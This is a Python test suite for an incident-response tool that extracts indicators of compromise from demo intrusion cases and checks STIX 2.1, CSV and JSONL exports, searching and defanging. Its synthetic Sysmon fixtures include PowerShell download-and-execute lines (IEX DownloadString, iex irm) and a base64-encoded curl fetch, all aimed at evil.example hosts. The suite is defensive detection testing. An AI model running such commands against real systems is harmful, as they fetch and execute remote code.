#!/usr/bin/env python3
"""Indicators of the two example cases against their stories (docs/demo.md), and bundles of STIX 2.1 against the rules of the specification.
    iocs.py KAKUHO WRITE_DEMO NTFS_HELPER
Expected values are written here by hand, from the story alone."""
import base64
import csv
import io
import json
import os
import re
import uuid

import kit

OBSERVABLES = uuid.UUID("00abedb4-aa42-466c-9c01-fed23315a9b7")  # section 2.9
OF_ID = {  # properties that make an observable's id, section 6
    "ipv4-addr": ["value"], "ipv6-addr": ["value"], "domain-name": ["value"], "url": ["value"], "email-addr": ["value"],
    "directory": ["path"], "file": ["hashes", "name", "extensions", "parent_directory_ref"],
    "user-account": ["account_type", "user_id", "account_login"], "windows-registry-key": ["key", "values"],
}
REQUIRED = {
    "identity": ["name"], "grouping": ["context", "object_refs"], "relationship": ["relationship_type", "source_ref", "target_ref"],
    "observed-data": ["first_observed", "last_observed", "number_observed", "object_refs"],
    "indicator": ["pattern", "pattern_type", "valid_from"],
}

STORY = {
    "mats": {
        ("ip", "203.0.113.45", "intruder"), ("ip", "10.212.134.21", "inside address used"),
        ("ip", "192.168.10.10", "inside address used"), ("ip", "192.168.10.5", "inside address used"),
        ("hostname", "WIN-8J4KQ2", "intruder"),
        ("account", "tanaka.k", "compromised account"), ("account", "Administrator", "compromised account"),
        ("path", r"C:\ProgramData\v\netscan.exe", "intruder"), ("path", r"C:\ProgramData\v\r.xml", "intruder"),
        ("path", r"C:\ProgramData\v\m64.exe", "intruder"), ("path", r"C:\ProgramData\v\enc.exe", "intruder"),
        ("path", r"%SystemRoot%\PSEXESVC.exe", "intruder"), ("service", "PSEXESVC", "intruder"),
    },
    "paint": {
        ("ip", "203.0.113.181", "intruder"), ("ip", "203.0.113.77", "destination"), ("ip", "10.212.135.31", "inside address used"),
        ("ip", "192.168.20.10", "inside address used"), ("ip", "192.168.20.5", "inside address used"),
        ("hostname", "DESKTOP-QX41", "intruder"), ("url", "https://downloads.example.net/rclone-linux-amd64.zip", "destination"),
        ("account", "hoshu01", "compromised account"), ("account", "Administrator", "compromised account"),
        ("account", "svcadm", "compromised account"), ("account", "u4471", "account at the destination"),
        ("path", r"C:\ProgramData\kb\7z.exe", "intruder"), ("path", r"C:\ProgramData\kb\s1.7z", "intruder"),
        ("path", r"C:\ProgramData\kb\s2.7z", "intruder"), ("path", r"C:\ProgramData\kb\l.dmp", "intruder"),
        ("path", r"C:\ProgramData\kb", "intruder"), ("path", "/var/tmp/.k", "intruder"), ("path", "/var/tmp/.k/rclone", "intruder"),
        ("path", "/var/tmp/.k/r.zip", "intruder"), ("path", "/var/tmp/.k/r.log", "intruder"),
    },
}
# Files of these names are still on the disks: their content has a hash.
HASHED = {"mats": {"netscan.exe", "r.xml"}, "paint": {"7z.exe", "rclone", "r.log"}}


def id_of(thing):
    named = {k: thing[k] for k in OF_ID[thing["type"]] if k in thing}
    text = json.dumps(named, ensure_ascii=False, separators=(",", ":"), sort_keys=True)
    return f"{thing['type']}--{uuid.uuid5(OBSERVABLES, text)}"


def check_bundle(checks, name, bundle, rows):
    ids = [o["id"] for o in bundle["objects"]]
    checks.equal(f"{name}: a bundle", (bundle["type"], set(bundle)), ("bundle", {"type", "id", "objects"}))
    checks.equal(f"{name}: ids are there once", len(ids), len(set(ids)))
    for o in [bundle] + bundle["objects"]:
        kind, _, number = o["id"].partition("--")
        checks.equal(f"{name}: {o['id']} is of its type", kind, o["type"])
        checks.equal(f"{name}: {o['id']} is a UUID of version 5", (str(uuid.UUID(number)), uuid.UUID(number).version), (number, 5))
        if o is bundle:
            continue
        checks.equal(f"{name}: {o['id']} version", o["spec_version"], "2.1")
        if o["type"] in OF_ID:
            checks.equal(f"{name}: {o['id']} follows from its content", o["id"], id_of(o))
        else:
            for key in REQUIRED[o["type"]]:
                checks.true(f"{name}: {o['id']} has {key}", key in o)
            for key in ("created", "modified"):
                checks.true(f"{name}: {o['id']} {key}", re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z", o[key]))
            for key in {"first_observed", "last_observed", "valid_from"} & set(o):
                checks.true(f"{name}: {o['id']} {key} to the microsecond at most", re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d{1,6})?Z", o[key]), o[key])
            if o["type"] == "observed-data":
                checks.true(f"{name}: {o['id']} first before last", o["first_observed"] <= o["last_observed"])
        for key, value in o.items():
            if key.endswith("_ref") or key.endswith("_refs"):
                for ref in [value] if isinstance(value, str) else value:
                    checks.true(f"{name}: {o['id']} refers to what is there", ref in ids, ref)
            checks.true(f"{name}: {o['id']} has no empty list", value != [])
    patterns = {o["pattern"] for o in bundle["objects"] if o["type"] == "indicator"}
    for row in rows:
        if row["type"] == "ip":
            pattern = f"[ipv4-addr:value = '{row['value']}']"
            checks.equal(f"{name}: {row['value']} as an indicator", pattern in patterns, row["role"] in ("intruder", "destination"))
        if row["role"] == "compromised account":
            checks.true(f"{name}: no indicator of {row['value']}", not any(f"'{row['value']}'" in p for p in patterns))
    return patterns


def check_case(checks, name, case):
    done = kit.kakuho("iocs", case, "--format", "jsonl")
    rows = done.lines()
    told = {(r["type"], r["value"], r["role"]) for r in rows if r["type"] != "sha256"}
    checks.equal(f"{name}: missing", sorted(STORY[name] - told), [])
    checks.equal(f"{name}: beyond the story", sorted(told - STORY[name]), [])
    hashed = {re.split(r"[\\/]", r["of"])[-1] for r in rows if r["type"] == "sha256"}
    checks.equal(f"{name}: hashes", hashed, HASHED[name])
    for r in rows:
        checks.true(f"{name}: {r['value']} says why", r["why"] and all(w["id"] for w in r["why"]))
        checks.true(f"{name}: {r['value']} says where", r["refs"])
        checks.equal(f"{name}: {r['value']} hostile", r["hostile"], r["role"] not in ("compromised account", "inside address used"))
        checks.equal(f"{name}: {r['value']} internal", r["internal"], r["role"] == "inside address used")
    document = kit.document(case, "iocs")
    checks.equal(f"{name}: the document holds the same", document["indicators"], rows)
    table = list(csv.DictReader(io.StringIO(kit.kakuho("iocs", case, "--format", "csv").out.decode())))
    checks.equal(f"{name}: CSV", [(r["type"], r["to_ids"]) for r in table], [(r["type"], str(int(r["hostile"]))) for r in rows])
    one, two = (kit.kakuho("iocs", case, "--format", "stix").out for _ in range(2))
    checks.equal(f"{name}: the same bytes", one, two)
    return rows, check_bundle(checks, name, json.loads(one), rows)


# Given to both cases; how each is found is said a second time here, by a pattern of Python over every value of every event.
GIVEN = {
    "203[.]0[.]113[.]45": r"(?<![\w.])203\.0\.113\.45(?![\w])(?!\.\w)",
    "3.0.113.45": r"^$a",
    "203.0.113.77": r"(?<![\w.])203\.0\.113\.77(?![\w])(?!\.\w)",
    "10.212.134.16/28": r"(?<![\w.])10\.212\.134\.(1[6-9]|2\d|3[01])(?![\w])(?!\.\w)",
    "downloads[.]example.net": r"(?<![\w-])downloads\.example\.net(?![\w-])(?!\.\w)",
    "nothing.example": r"^$a",
    "m64.exe": r"(?<![\w.~$@+%-])m64\.exe(?![\w~$@+%-])(?!\.\w)",
    "C:\\ProgramData\\kb\\7z.exe": r"(^|[\\/ \"])programdata[\\/]+kb[\\/]+7z\.exe(?![\w-])(?!\.\w)",
    "/var/tmp/.k": r"(?<![\w./~-])/var/tmp/\.k(?![\w-])(?!\.\w)",
    "PSEXESVC": r"(?<![\w.-])psexesvc(?![\w-])(?!\.\w)",
    "hxxps://downloads.example[.]net/rclone-linux-amd64.zip": r"downloads\.example\.net/rclone-linux-amd64\.zip(?![\w/-])",
    "[file:name = '7z.exe' AND file:parent_directory_ref.path = 'C:\\\\ProgramData\\\\kb']": r"(^|[\\/ \"])programdata[\\/]+kb[\\/]+7z\.exe(?![\w-])(?!\.\w)",
    "[file:name LIKE '%scan.exe']": r"(^|[^\w])\w*scan\.exe$",
}
UNREAD = "[ipv4-addr:value != '203.0.113.45']"


def values_of(thing, key=""):
    """Every text of an event but where it comes from and what kind of thing it is."""
    if isinstance(thing, dict):
        for k, v in thing.items():
            if k not in ("ref", "@timestamp", "event.module", "event.dataset", "event.category", "kakuho.time_kind"):
                yield from values_of(v, k)
    elif isinstance(thing, list):
        for v in (thing[1:] if len(thing) == 2 and isinstance(thing[0], str) else thing):
            yield from values_of(v, key)
    elif isinstance(thing, str):
        yield thing


def check_search(checks, name, case, folder):
    events = [(e, list(values_of(e))) for e in kit.kakuho("timeline", case, "--json").lines()]
    given = os.path.join(folder, "given.txt")
    with open(given, "w", encoding="utf-8") as file:
        file.write("# given\n" + "\n".join(GIVEN) + "\n" + UNREAD + "\n")
    done = kit.kakuho("iocs", case, "--ioc", given, "--json")
    checks.equal(f"{name}: exit status", done.status, 0)
    document = done.json()
    checks.equal(f"{name}: the same bytes again", kit.kakuho("iocs", case, "--ioc", given, "--json").out, done.out)
    checks.equal(f"{name}: every event was looked through", document["searched"]["events"], len(events))
    rows = {r["indicator"]: r for r in document["results"]}
    checks.equal(f"{name}: what is not understood is named", rows[UNREAD]["status"], "not read")
    for ioc, pattern in GIVEN.items():
        wanted = [e for e, values in events if any(re.search(pattern, v, re.I) for v in values)]
        row = rows[ioc]
        checks.equal(f"{name}: {ioc} in events", row["events"], len(wanted))
        checks.equal(f"{name}: {ioc} found", row["status"], "found" if wanted or row["items"] or row["people"] else "not found")
        times = sorted(e["@timestamp"] for e in wanted if "@timestamp" in e)
        if times:
            checks.near(f"{name}: {ioc} first", row["first"], min(times, key=kit.seconds_of), 0.001)
            checks.near(f"{name}: {ioc} last", row["last"], max(times, key=kit.seconds_of), 0.001)
        checks.equal(f"{name}: {ioc} on", row["hosts"] if not row["items"] else [h for h in row["hosts"] if h in {e["host.name"] for e in wanted}],
                     sorted({e["host.name"] for e in wanted}))
        checks.equal(f"{name}: {ioc} places", row["refs"][:len(wanted)], [e["ref"] for e in wanted[:50]])


def check_exports(checks, name, case, folder):
    """What one case exports, the same case finds again: all of it, from every format."""
    for form in ("stix", "csv", "jsonl"):
        path = os.path.join(folder, f"{name}.{form}")
        with open(path, "wb") as file:
            file.write(kit.kakuho("iocs", case, "--format", form).out)
        rows = kit.kakuho("iocs", case, "--ioc", path, "--format", "jsonl").lines()
        checks.true(f"{name}: {form} is read", len(rows) > 10)
        others = ("identity (", "observed-data (", "relationship (", "grouping (")  # objects of STIX that tell about others
        missing = [r["indicator"] for r in rows if r["status"] != "found"]
        checks.equal(f"{name}: {form} not found", [m for m in missing if form != "stix" or not m.startswith(others)], [])


HASHES = "SHA1=DA39A3EE5E6B4B0D3255BFEF95601890AFD80709,MD5=D41D8CD98F00B204E9800998ECF8427E,IMPHASH=11111111111111111111111111111111"
RULE = """title: Made For This Test
id: 11111111-1111-4111-8111-111111111111
status: test
logsource: {product: windows, category: process_creation}
detection:
    words: {CommandLine|contains: marked}
    condition: words
level: LEVEL
"""


def sysmon(number, second, user, image, command, hashes):
    return json.dumps({"Event": {
        "System": {"Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon"}}, "EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational",
                   "Computer": "WS01", "EventRecordID": number, "TimeCreated": {"#attributes": {"SystemTime": f"2026-03-01T00:00:{second:02d}.000000Z"}}},
        "EventData": {"UtcTime": "2026-03-01 00:00:00.000", "Image": image, "CommandLine": command, "User": user, "Hashes": hashes}}})


def check_without_intrusion(checks, folder):
    """Only a rule speaks: all is of low confidence, what responders did is left out, and so is what a rule of a low level found."""
    log, rules, case = (os.path.join(folder, n) for n in ("sysmon.jsonl", "rules", "alone"))
    with open(log, "w", encoding="utf-8") as file:
        file.write(sysmon(1, 1, "WS\\taro", "C:\\Users\\taro\\x.exe",
                          "x.exe marked \"IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1'); Go\" 203.0.113.9 10.0.0.9", HASHES) + "\n")
        file.write(sysmon(2, 2, "WS\\ours", "C:\\Tools\\scan.exe", "scan.exe marked", "") + "\n")
        file.write(sysmon(3, 3, "WS\\taro", "C:\\Windows\\System32\\cmd.exe", "cmd marked /c \"C:\\ProgramData\\q\\y.exe -a\"", HASHES) + "\n")
        file.write(sysmon(4, 4, "WS\\taro", "C:\\Users\\taro\\plain.exe", "plain.exe", "") + "\n")
        file.write(sysmon(5, 5, "WS\\taro", "C:\\Windows\\System32\\rundll32.exe", "rundll32 marked C:\\ProgramData\\z7,#1", "") + "\n")
        file.write(sysmon(6, 6, "WS\\taro", "C:\\Windows\\System32\\RunDLL32.EXE", "RunDLL32 \"C:\\Users\\Public\\a b.dll\",Go marked", "") + "\n")
    with open(os.path.join(folder, "alone.yaml"), "w", encoding="utf-8") as file:
        file.write("responders:\n  - {account: ours, did: x}\n")
    os.makedirs(rules)
    wanted = {("path", "C:\\Users\\taro\\x.exe"), ("path", "C:\\ProgramData\\q\\y.exe"), ("path", "C:\\ProgramData\\z7"),
              ("path", "C:\\Users\\Public\\a b.dll"), ("url", "http://evil.example/a.ps1"), ("ip", "203.0.113.9"),
              ("sha1", "da39a3ee5e6b4b0d3255bfef95601890afd80709"), ("md5", "d41d8cd98f00b204e9800998ecf8427e")}
    kit.init(case, os.path.join(folder, "alone.yaml"))
    for level in ("medium", "high"):
        with open(os.path.join(rules, "r.yml"), "w", encoding="utf-8") as file:
            file.write(RULE.replace("LEVEL", level))
        kit.add(case, [log], "--rules", rules)
        kit.kakuho("analyse", case, "--rules", rules)
        rows = kit.kakuho("iocs", case, "--format", "jsonl").lines()
        mine = [r for r in rows if any(w["what"] == "Made For This Test" for w in r["why"])]
        checks.equal(f"alone: by a rule of level {level}", {(r["type"], r["value"]) for r in mine}, wanted if level == "high" else set())
        checks.equal("alone: low confidence", {r["confidence"] for r in mine}, {"low"} if level == "high" else set())
    checks.true("alone: no responder", not any("scan.exe" in json.dumps(r) for r in rows))
    checks.equal("alone: a hash says whose", {r.get("of") for r in mine if r["type"] == "md5"}, {"C:\\Users\\taro\\x.exe"})
    given = os.path.join(folder, "hashes.txt")
    with open(given, "w", encoding="utf-8") as file:
        file.write("D41D8CD98F00B204E9800998ECF8427E\n" + "0" * 40 + "\n")
    found, missing = kit.kakuho("iocs", case, "--ioc", given, "--format", "jsonl", "--without-contents").lines()
    checks.equal("alone: MD5 where a log names it", (found["status"], found["events"], found["in_logs_only"]), ("found", 2, True))
    checks.equal("alone: SHA-1 of nothing", (missing["status"], missing["in_logs_only"]), ("not found", True))
    rows = kit.kakuho("iocs", case, "--ioc", given, "--format", "jsonl").lines()
    checks.equal("alone: in files too", [(r["status"], r["contents"], "in_logs_only" in r) for r in rows], [("found", 1, False), ("not found", 0, False)])


ANY_SERVICE = """title: Made For This Test
id: 00000000-0000-4000-8000-0000000000ab
level: high
logsource: {product: windows, service: system}
detection:
  s: {EventID: 7045}
  condition: s
"""
# what a service starts, and which paths and links are the intruder's
SERVICES = [
    ("%COMSPEC% /c ping -n 1 127.0.0.1 >nul && echo 'x' > \\\\.\\pipe\\x", []),
    ("%COMSPEC% /c start C:\\ProgramData\\q\\evil.exe -k", ["C:\\ProgramData\\q\\evil.exe"]),
    ("cmd /c C:\\Windows\\Temp\\run.bat", ["C:\\Windows\\Temp\\run.bat"]),
    ("C:\\Odd Place\\a b.exe /service", ["C:\\Odd Place\\a b.exe"]),
    ('"C:\\Odd Place\\c d.com" -s', ["C:\\Odd Place\\c d.com"]),
    ("C:\\Odd\\noend", ["C:\\Odd\\noend"]),
    ("powershell -c iex(irm http://evil.example/b)", ["http://evil.example/b"]),
    ("C:\\Windows\\System32\\svchost.exe -k netsvcs", []),
]


def check_services(checks, folder):
    """Of what a service starts the program counts, not its options; of a shell, what it is told to start."""
    log, rule, case = (os.path.join(folder, n) for n in ("services.jsonl", "service.yml", "services"))
    with open(log, "w", encoding="utf-8") as file:
        for number, (image, _) in enumerate(SERVICES, 1):
            file.write(json.dumps({"Event": {
                "System": {"Provider": {"#attributes": {"Name": "Service Control Manager"}}, "EventID": 7045, "Channel": "System", "Computer": "WS01",
                           "EventRecordID": number, "TimeCreated": {"#attributes": {"SystemTime": f"2026-03-01T00:00:{number:02d}.000000Z"}}},
                "EventData": {"ServiceName": f"upd{number}", "ImagePath": image, "ServiceType": "user mode service", "StartType": "demand start",
                              "AccountName": "LocalSystem"}}}) + "\n")
    with open(rule, "w", encoding="utf-8") as file:
        file.write(ANY_SERVICE)
    kit.init(case, os.path.join(folder, "alone.yaml"))
    kit.add(case, [log], "--rules", rule)
    rows = [r for r in kit.kakuho("iocs", case, "--format", "jsonl").lines() if r["type"] != "service"]
    by_record = {number: [] for number in range(1, len(SERVICES) + 1)}
    for row in rows:
        for ref in row["refs"]:
            by_record[ref["record"]].append(row["value"])
    for number, (image, wanted) in enumerate(SERVICES, 1):
        checks.equal(f"service {image}", by_record[number], wanted)


def check_hidden(checks, folder):
    """What events carry encoded and what tables and mails say of people: each event counts once, however often it tells of the indicator."""
    case, log, table, mail, given = (os.path.join(folder, n) for n in ("hidden", "hidden.jsonl", "list.csv", "m.eml", "hidden.txt"))

    def encoded(text):
        return "powershell -enc " + base64.b64encode(text.encode("utf-16-le")).decode()

    once = encoded("IEX (New-Object Net.WebClient).DownloadString('http://once.evil.example/a.ps1') # 203.0.113.99")
    twice = encoded("echo " + base64.b64encode(b"curl http://deep.evil.example/x -o /tmp/y").decode() + " | base64 -d")
    image = "C:\\Windows\\System32\\cmd.exe"
    with open(log, "w", encoding="utf-8") as file:
        file.write("\n".join(sysmon(n, n, "WS\\taro", image, command, "") for n, command in
                             enumerate((once, twice, "ping once.evil.example & " + once, once + " & " + once), 1)) + "\n")
    with open(table, "w", encoding="utf-8") as file:
        file.write("氏名,メール,電話番号,住所\n山田太郎,taro@shop.example,090-0000-5678,東京都千代田区丸の内1-1\n鈴木花子,hanako@good.example,090-0000-2222,大阪府大阪市北区梅田1-2\n")
    with open(mail, "w", encoding="utf-8") as file:
        file.write("From: Somebody <phish@evil.example>\nTo: taro@good.example\nSubject: x\nDate: Mon, 2 Mar 2026 10:00:00 +0900\nMessage-ID: <1@x>\n\nhello\n")
    wanted = {"once.evil.example": (3, 0), "deep.evil.example": (1, 0), "203.0.113.99": (3, 0), "phish@evil.example": (1, 1), "taro@shop.example": (0, 1),
              "090-0000-5678": (0, 1), "shop.example": (0, 1), "none.example": (0, 0)}
    with open(given, "w", encoding="utf-8") as file:
        file.write("\n".join(wanted) + "\n")
    kit.init(case, os.path.join(folder, "alone.yaml"))
    kit.add(case, [log, table, mail])
    told = kit.kakuho("iocs", case, "--ioc", given, "--json").json()
    rows = {r["indicator"]: r for r in told["results"]}
    for ioc, counts in wanted.items():
        checks.equal(f"hidden: {ioc}", (rows[ioc]["events"], rows[ioc]["people"], rows[ioc]["status"]), (*counts, "found" if any(counts) else "not found"))
    checks.equal("hidden: where", [rows[i]["fields"] for i in ("deep.evil.example", "taro@shop.example")], [["decoded payload", "content"], ["person", "content"]])
    checks.equal("hidden: places", [[(os.path.basename(r["path"]), r["record"]) for r in rows[i]["refs"]] for i in ("deep.evil.example", "taro@shop.example")],
                 [[("hidden.jsonl", 2)], [("list.csv", 2)]])
    checks.true("hidden: what was looked through", told["searched"]["payloads"] >= 4 and told["searched"]["people"] >= 3, str(told["searched"]))
    last = list(csv.DictReader(io.StringIO(kit.kakuho("iocs", case, "--ioc", given, "--format", "csv").out.decode())))[-1]
    checks.equal("hidden: what was not found has no place", (last["status"], last["ref.path"], last["ref.record"], last["ref.offset"]), ("not found", "", "", ""))


def made_ids(case):
    """Objects of ours (observables have ids of their content alone), with their times."""
    bundle = kit.kakuho("iocs", case, "--format", "stix").json()
    return {o["id"]: (o["created"], o["modified"]) for o in bundle["objects"] if "created" in o and o["type"] != "grouping"}


def check_stix_of_two(checks, folder):
    """Two organisations have a case of the same name and the same intruder: their objects are not the same. When evidence comes later, ids stay."""
    rules, ids = os.path.join(folder, "rules"), []
    for who in ("one", "two"):
        case, log = os.path.join(folder, who, "case"), os.path.join(folder, who, "sysmon.jsonl")
        os.makedirs(os.path.join(folder, who))
        with open(log, "w", encoding="utf-8") as file:
            file.write(sysmon(1, 1, f"WS\\{who}", "C:\\Users\\Public\\x.exe", "x.exe marked", HASHES) + "\n")
        kit.init(case, os.path.join(folder, "alone.yaml"))
        kit.kakuho("add", case, log, "--rules", rules, "--now", "2026-03-02T00:00:00Z")
        ids.append(made_ids(case))
        checks.true(f"{who}: objects of ours", len(ids[-1]) > 3)
    checks.equal("ids of both", sorted(set(ids[0]) & set(ids[1])), [])
    later = os.path.join(folder, "later.jsonl")
    with open(later, "w", encoding="utf-8") as file:
        file.write(sysmon(9, 9, "WS\\more", "C:\\Users\\Public\\z.exe", "z.exe marked", "") + "\n")
    kit.kakuho("add", case, later, "--now", "2026-03-03T00:00:00Z")
    grown = made_ids(case)
    checks.equal("ids that are gone", sorted(set(ids[1]) - set(grown)), [])
    checks.true("more of them", len(grown) > len(ids[1]))
    checks.equal("created and modified", set(grown.values()), {("2026-03-02T00:00:00.000Z", "2026-03-03T00:00:00.000Z")})


def main():
    checks = kit.Checks()
    folder = kit.place("iocs")
    check_without_intrusion(checks, folder)
    check_services(checks, folder)
    check_stix_of_two(checks, folder)
    check_hidden(checks, folder)
    checks.equal("a file that is not there", kit.kakuho("iocs", folder, "--ioc", os.path.join(folder, "none")).status, 2)
    for name in STORY:
        case_file, evidence, more, _ = kit.demo_case(name)
        case = os.path.join(folder, name)
        kit.init(case, case_file)
        kit.add(case, evidence, *more)
        rows, patterns = check_case(checks, name, case)
        check_search(checks, name, case, folder)
        check_exports(checks, name, case, folder)
        if name == "mats":
            entry = next(r for r in rows if r["value"] == "203.0.113.45")
            checks.near("first seen", entry["first"], "2026-07-01T13:10:08Z", 1)
            checks.near("last seen", entry["last"], "2026-07-07T19:12:31Z", 1)
            checks.equal("on", entry["hosts"], ["FGT-HONSHA"])
            checks.true("backslashes are escaped", r"[file:name = 'm64.exe' AND file:parent_directory_ref.path = 'C:\\ProgramData\\v']" in patterns)
            checks.true("a service", "[process:extensions.'windows-service-ext'.service_name = 'PSEXESVC']" in patterns)
            checks.true("the responder is nowhere", not any("sato.adm" in json.dumps(r) for r in rows))
            defanged = {r["value"] for r in kit.kakuho("iocs", case, "--format", "jsonl", "--defang").lines()}
            checks.true("defanged", "203[.]0[.]113[.]45" in defanged and "203.0.113.45" not in defanged)
        else:
            checks.true("links defanged", any(r["value"] == "hxxps://downloads[.]example[.]net/rclone-linux-amd64.zip" for r in
                                              kit.kakuho("iocs", case, "--format", "jsonl", "--defang").lines()))
    checks.end()


if __name__ == "__main__":
    main()
